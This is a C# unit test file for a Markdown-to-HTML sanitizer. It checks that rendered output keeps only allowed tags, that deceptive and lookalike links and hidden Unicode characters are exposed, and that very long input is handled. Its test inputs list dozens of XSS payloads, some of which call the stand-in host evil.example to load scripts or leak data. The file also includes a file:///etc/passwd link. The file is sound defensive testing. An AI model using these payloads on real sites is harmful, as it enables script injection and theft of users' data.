using System.Text.RegularExpressions;
using ArenaBench.Core.Rendering;

namespace ArenaBench.Core.Tests.Rendering;

public partial class SafeMarkdownTests
{
    /// <summary>Every tag that may leave the renderer, with its attributes: an attack that gets through makes another one.</summary>
    [GeneratedRegex("""</?(?:p|br|hr|h[1-6]|strong|em|del|code|pre|blockquote|ul|ol|li|table|thead|tbody|tr|th|td|span|div|a)(?: (?:class="(?:math|math display|language-[a-z+#-]+)"|start="\d+"|rel="nofollow noopener noreferrer"|href="(?:https?://|mailto:)[^"<>]*"))*>""")]
    private static partial Regex HarmlessTag();

    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("a <script src=https://evil.example/x.js></script> b")]
    [InlineData("<ScRiPt\n>alert(1)</sCrIpT\n>")]
    [InlineData("<<script>script>alert(1)<</script>/script>")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("<div onmouseover='alert(1)'>here</div>")]
    [InlineData("<body onload=alert(1)>")]
    [InlineData("<svg><script>alert(1)</script></svg>")]
    [InlineData("<svg onload=alert(1)><animate onbegin=alert(1)>")]
    [InlineData("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>")]
    [InlineData("<iframe src='javascript:alert(1)'></iframe>")]
    [InlineData("<iframe srcdoc='<script>alert(1)</script>'></iframe>")]
    [InlineData("<object data='data:text/html,<script>alert(1)</script>'></object>")]
    [InlineData("<embed src=//evil.example/x.swf>")]
    [InlineData("<style>body{background:url(https://evil.example/leak)}</style>")]
    [InlineData("<p style='position:fixed;inset:0'>covers the page</p>")]
    [InlineData("<link rel=stylesheet href=https://evil.example/x.css>")]
    [InlineData("<base href=https://evil.example/>")]
    [InlineData("<meta http-equiv=refresh content='0;url=https://evil.example'>")]
    [InlineData("<form action=https://evil.example><input name=key><button>go</button></form>")]
    [InlineData("</div></main></body><script>alert(1)</script>")]
    [InlineData("--><script>alert(1)</script><!--")]
    [InlineData("]]><script>alert(1)</script>")]
    [InlineData("<noscript><p title='</noscript><img src=x onerror=alert(1)>'>")]
    [InlineData("[click](javascript:alert(1))")]
    [InlineData("[click](JaVaScRiPt:alert(1))")]
    [InlineData("[click](java\tscript:alert(1))")]
    [InlineData("[click](<java&#x0A;script:alert(1)>)")]
    [InlineData("[click](&#106;avascript:alert(1))")]
    [InlineData("[click](vbscript:msgbox(1))")]
    [InlineData("[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)")]
    [InlineData("[click](file:///etc/passwd)")]
    [InlineData("[click](/api/runs/r1/cancel)")]
    [InlineData("[click](//evil.example/x)")]
    [InlineData("[click][1]\n\n[1]: javascript:alert(1)")]
    [InlineData("<javascript:alert(1)>")]
    [InlineData("<data:text/html,x>")]
    [InlineData("![x](https://evil.example/pixel.png)")]
    [InlineData("![x](javascript:alert(1))")]
    [InlineData("![x](data:image/svg+xml,<svg/onload=alert(1)>)")]
    [InlineData("[x](https://ok.example \"a\" onclick=alert(1) b=\"c\")")]
    [InlineData("[x](https://ok.example/\"onmouseover=\"alert(1))")]
    [InlineData("```html\" onload=\"alert(1)\n<script>alert(1)</script>\n```")]
    [InlineData("`<img src=x onerror=alert(1)>`")]
    [InlineData("$<script>alert(1)</script>$ and $$\n<img src=x onerror=alert(1)>\n$$")]
    [InlineData("| a | <script> |\n|:-:|--:|\n| <img src=x onerror=alert(1)> | b |")]
    [InlineData("# heading {onclick=alert(1) style=\"x\" .evil #id}")]
    [InlineData("&lt;script&gt;alert(1)&lt;/script&gt;")]
    [InlineData("<a href=\"https://bank.example\" onclick=alert(1)>x</a>")]
    public void Render_Attack_LeavesHarmlessTagsAlone(string attack)
    {
        var html = SafeMarkdown.Render(attack).Html;

        var rest = HarmlessTag().Replace(html, "");
        Assert.DoesNotContain("<", rest);
    }

    [Fact]
    public void Render_DeceptiveLink_SaysWhereItLeads()
    {
        var html = SafeMarkdown.Render("[https://bank.example/login](https://evil.example/login)").Html;

        Assert.Contains("(evil.example)", html);
    }

    [Fact]
    public void Render_LookalikeHost_IsShownInItsAsciiForm()
    {
        // The first letter is Cyrillic.
        Assert.Contains("(xn--", SafeMarkdown.Render("[apple.com](https://\u0430pple.com/)").Html);
    }

    [Fact]
    public void Render_LinkOfAnotherKind_StaysAsText()
    {
        var html = SafeMarkdown.Render("see [this](javascript:alert(1)) please").Html;

        Assert.DoesNotContain("<a", html);
        Assert.Contains("this (link left out: javascript:alert(1))", html);
    }

    [Theory]
    [InlineData('\u202E', "U+202E")]
    [InlineData('\u2066', "U+2066")]
    [InlineData('\u200B', "U+200B")]
    public void Render_CharacterThatReordersOrHides_IsShownByItsCode(char hidden, string code)
    {
        var html = SafeMarkdown.Render($"invoice{hidden}fdp.exe").Html;

        Assert.DoesNotContain(hidden, html);
        Assert.Contains(code, html);
    }

    [Fact]
    public void Render_RightToLeftText_StaysAsItIs() => Assert.Contains("שלום עולם", SafeMarkdown.Render("**שלום עולם**").Html);

    [Fact]
    public void Render_LongText_IsCutAndSaysSo()
    {
        var text = string.Concat(Enumerable.Repeat("word ", 20_000));

        var first = SafeMarkdown.Render(text);
        var all = SafeMarkdown.Render(text, limit: null);

        Assert.True(first.IsCut);
        Assert.Equal((SafeMarkdown.FirstLook, 100_000), (first.Shown, first.Total));
        Assert.False(all.IsCut);
    }

    [Fact]
    public void Render_CutInsideASurrogatePair_KeepsNoHalf()
    {
        Assert.Equal(1, SafeMarkdown.Render("a😀", limit: 2).Shown);
    }

    [Theory]
    [InlineData("[", 30_000)]
    [InlineData("> ", 15_000)]
    [InlineData("*a ", 10_000)]
    [InlineData("- ", 15_000)]
    [InlineData("![[](", 6_000)]
    [InlineData("`a``", 7_000)]
    [InlineData("<div>", 6_000)]
    [InlineData("|a", 15_000)]
    [InlineData("$$x", 10_000)]
    public void Render_ManyRepeats_EndsWithHarmlessTags(string piece, int times)
    {
        var html = SafeMarkdown.Render(string.Concat(Enumerable.Repeat(piece, times))).Html;

        Assert.NotEmpty(html);
        Assert.DoesNotContain("<", HarmlessTag().Replace(html, ""));
    }

    [Fact]
    public void Render_FiveMegabytes_AreShownAsTheyAre()
    {
        var text = new string('x', 5_000_000) + "<b>";

        var html = SafeMarkdown.Render(text, limit: null).Html;

        Assert.EndsWith("x&lt;b&gt;</pre>", html);
    }

    [Theory]
    [InlineData("so $x^2$ is", "<span class=\"math\">\\(x^2\\)</span>")]
    [InlineData("so \\(x^2\\) is", "<span class=\"math\">\\(x^2\\)</span>")]
    [InlineData("so\n\\[\n\\frac{1}{2}\n\\]\nis", "<span class=\"math display\">\\(\n\\frac{1}{2}\n\\)</span>")]
    [InlineData("$$\n\\frac{1}{2}\n$$", "<div class=\"math\">\n\\[\n\\frac{1}{2}\n\\]</div>")]
    public void Render_Formula_IsMarkedForThePage(string text, string expected) => Assert.Contains(expected, SafeMarkdown.Render(text).Html);

    [Theory]
    [InlineData("`\\(x\\)`")]
    [InlineData("```\n\\(x\\)\n```")]
    [InlineData("\\\\(x\\\\)")]
    [InlineData("\\(x")]
    [InlineData("\\(\\)")]
    public void Render_WhatIsNoFormula_StaysText(string text) => Assert.DoesNotContain("math", SafeMarkdown.Render(text).Html);

    [Theory]
    [InlineData("python", true)]
    [InlineData("c++", true)]
    [InlineData("x\" onload=\"alert(1)", false)]
    [InlineData("nosuchlanguage", false)]
    public void Render_Fence_KeepsALanguageThatIsKnown(string language, bool kept) =>
        Assert.Equal(kept, SafeMarkdown.Render($"```{language}\nx\n```").Html.Contains("language-", StringComparison.Ordinal));

    [Fact]
    public void Render_Markdown_KeepsItsShape()
    {
        var html = SafeMarkdown.Render("## Title\n\n- **bold** and `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```cs\nvar x = 1 < 2;\n```\n").Html;

        Assert.Contains("<h2>Title</h2>", html);
        Assert.Contains("<strong>bold</strong>", html);
        Assert.Contains("<td>1</td>", html);
        Assert.Contains("1 &lt; 2", html);
    }
}
